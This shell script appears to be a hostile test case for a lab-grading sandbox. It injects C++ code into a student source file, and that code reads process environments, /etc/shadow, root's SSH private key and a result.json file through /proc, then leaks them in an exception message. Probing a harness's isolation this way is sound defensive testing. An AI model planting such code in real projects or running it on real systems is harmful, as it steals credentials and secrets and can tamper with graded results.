#!/bin/sh
# Reads what /proc reveals about all processes, mainly environments and folders, and throws it as an
# exception.
# from: starters
# lab: lab1
# expect: lab1 0

{
    cat << 'CPP'
#include <fstream>
#include <iterator>
#include <stdexcept>
#include <string>
static void attack() {
    std::string found = "found:";
    for (const std::string pid : {"1", "2", "10", "100", "self", "thread-self"})
        for (const char* name : {"environ", "cmdline", "root/etc/shadow", "cwd/result.json", "fd/0", "root/root/.ssh/id_ed25519", "status", "mountinfo"}) {
            std::ifstream file("/proc/" + pid + "/" + name, std::ios::binary);
            found.append(std::istreambuf_iterator<char>(file), std::istreambuf_iterator<char>());
        }
    throw std::runtime_error(found);
}

CPP
    sed 's/^\(std::size_t\|Reduction\) .*) {$/&\n    attack();/' labs/lab1/reduction_scalar.cpp
} > hostile.tmp
mv hostile.tmp labs/lab1/reduction_scalar.cpp
